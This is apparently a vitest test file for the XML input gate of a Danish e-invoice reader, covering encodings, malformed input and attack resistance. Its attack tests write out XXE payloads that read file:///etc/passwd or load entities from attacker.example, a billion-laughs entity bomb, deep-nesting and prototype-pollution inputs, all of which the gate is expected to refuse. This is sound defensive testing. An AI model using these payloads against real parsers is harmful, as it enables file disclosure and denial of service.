import { readFileSync } from 'node:fs';
import { describe, expect, test } from 'vitest';
import { gateLimits, passGate } from './gate.ts';
import { readBytes } from './read-bytes.ts';

const sample = readFileSync(new URL('../../shared/einvoice/samples/oioubl-2-invoice.xml', import.meta.url), 'utf8');
const bytes = (text: string): Uint8Array => new TextEncoder().encode(text);

/** Windows-1252 has the quotation marks and the euro where ISO-8859-1 has nothing that can be seen. */
function encode(text: string, encoding: string): Buffer {
  const declared = text.replace('encoding="UTF-8"', `encoding="${encoding}"`);
  switch (encoding) {
    case 'UTF-16':
      return Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(declared, 'utf16le')]);
    case 'UTF-16BE':
      return Buffer.from(declared, 'utf16le').swap16();
    case 'windows-1252':
      return Buffer.from(declared.replaceAll('€', '\u0080'), 'latin1');
    case 'ISO-8859-1':
      return Buffer.from(declared, 'latin1');
    default:
      return Buffer.from(declared, 'utf8');
  }
}

function problemOf(input: Uint8Array): { code: string; values: Readonly<Record<string, string>> } | null {
  const outcome = readBytes(input);
  return outcome.kind === 'failed' ? outcome.problem : null;
}

describe('encodings', () => {
  test.each(['UTF-8', 'UTF-16', 'UTF-16BE', 'ISO-8859-1', 'windows-1252'])('%s is read as declared', (encoding) => {
    const outcome = readBytes(encode(sample, encoding));
    expect(outcome).toMatchObject({ kind: 'document', document: { supplier: { address: { city: 'Århus C' } } } });
  });

  test('the euro of windows-1252 is a euro', () => {
    const gate = passGate(encode('<?xml version="1.0" encoding="UTF-8"?><a>€</a>', 'windows-1252'));
    expect(gate).toMatchObject({ ok: true, text: expect.stringContaining('€') as unknown });
  });

  test('a byte order mark and CRLF change nothing', () => {
    const windows = Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from(sample.replaceAll('\n', '\r\n'))]);
    expect(readBytes(windows)).toEqual(readBytes(bytes(sample)));
  });

  test.each([
    ['an encoding nobody knows', bytes('<?xml version="1.0" encoding="KLINGON"?><a/>')],
    ['UTF-8 that is none', Buffer.from('<a>\xf8</a>', 'latin1')],
    ['ASCII that is none', Buffer.from('<?xml version="1.0" encoding="US-ASCII"?><a>\xf8</a>', 'latin1')],
  ])('%s is a problem of the encoding', (_, input) => {
    expect(problemOf(input)?.code).toBe('gate.encoding');
  });
});

describe('what is not well-formed is refused with its place', () => {
  test.each([
    ['a truncated file', sample.slice(0, 5000)],
    ['two roots', '<a/>\n<b/>'],
    ['an undeclared prefix', '<a><x:b/></a>'],
    ['an attribute twice', '<a b="1" b="2"/>'],
    ['an entity nobody declared', '<a>&copy;</a>'],
    ['plain text', 'Hello'],
    ['a control character', '<a>\u0001</a>'],
  ])('%s', (_, text) => {
    const found = problemOf(bytes(text));
    expect(found?.code).toBe('gate.notWellFormed');
    expect(found?.values['line']).toMatch(/^[1-9]/);
    expect(found?.values['message']).not.toBe('');
  });

  test('an empty file is empty', () => {
    expect(problemOf(new Uint8Array())?.code).toBe('gate.empty');
  });
});

describe('attacks', () => {
  const laughs = `<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "ha">${Array.from(
    { length: 20 },
    (_, index) => `<!ENTITY a${String(index)} "${`&${index === 0 ? 'a' : `a${String(index - 1)}`};`.repeat(10)}">`,
  ).join('')}]><l>&a19;</l>`;

  test.each([
    ['a DOCTYPE', '<!DOCTYPE a SYSTEM "http://attacker.example/a.dtd"><a/>'],
    ['an external entity', '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'],
    ['a parameter entity', '<!DOCTYPE a [<!ENTITY % x SYSTEM "http://attacker.example/x"> %x;]><a/>'],
    ['the billion laughs', laughs],
    ['the billion laughs in UTF-16', laughs],
  ])('%s is refused as a DOCTYPE', (name, text) => {
    const input = name.endsWith('UTF-16')
      ? Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(text, 'utf16le')])
      : bytes(text);
    expect(problemOf(input)?.code).toBe('gate.doctype');
  });

  test('the word in a comment or in text is no DOCTYPE', () => {
    const harmless = sample.replace(
      '<cbc:Note languageID="da">',
      '<!-- <!DOCTYPE a> --><cbc:Note languageID="da">&lt;!DOCTYPE a> ',
    );
    expect(readBytes(bytes(harmless)).kind).toBe('document');
  });

  test.each([101, 255, 300, 3000, 100_000])('%i levels are too deep', (depth) => {
    expect(problemOf(bytes(`${'<a>'.repeat(depth)}${'</a>'.repeat(depth)}`))?.code).toBe('gate.tooDeep');
  });

  test('a hundred levels are not', () => {
    expect(problemOf(bytes(`${'<a>'.repeat(100)}${'</a>'.repeat(100)}`))?.code).toBe('recognise.unknownRoot');
  });

  test('hundreds of attributes on one element are refused', () => {
    const attributes = Array.from({ length: 257 }, (_, index) => `a${String(index)}="1"`).join(' ');
    expect(problemOf(bytes(`<a ${attributes}/>`))).toMatchObject({
      code: 'gate.tooManyAttributes',
      values: { limit: '256' },
    });
  });

  test('a file over the limit is refused unread', () => {
    expect(problemOf(new Uint8Array(gateLimits.bytes + 1))).toMatchObject({
      code: 'gate.tooLarge',
      values: { limit: String(gateLimits.bytes) },
    });
  });

  test('millions of elements are refused before they become a tree', () => {
    expect(problemOf(bytes(`<a>${'<b/>'.repeat(gateLimits.markup)}</a>`))?.code).toBe('gate.tooMuchMarkup');
  });

  test.each(['__proto__', 'constructor', 'hasOwnProperty', 'toString'])(
    'an element and an attribute named %s do no harm',
    (name) => {
      const hostile = sample.replace(
        '<cbc:Note languageID="da">',
        `<cbc:${name}>x</cbc:${name}><${name} xmlns="">x</${name}><cbc:Note ${name}="x" languageID="da">`,
      );
      expect(readBytes(bytes(hostile))).toMatchObject({ kind: 'document', document: { number: 'HP-20731' } });
      expect(({} as Record<string, unknown>)['x']).toBeUndefined();
    },
  );
});

test('an attachment of twelve megabytes is read, and its size is known', () => {
  const large = sample.replace(/PGZvbGdl[\s\S]*?IG5yPSIxIi8\+/, 'QUJD'.repeat(4 * 1024 * 1024));
  expect(readBytes(bytes(large))).toMatchObject({
    kind: 'document',
    document: { attachments: [{ size: 12 * 1024 * 1024 }] },
  });
});
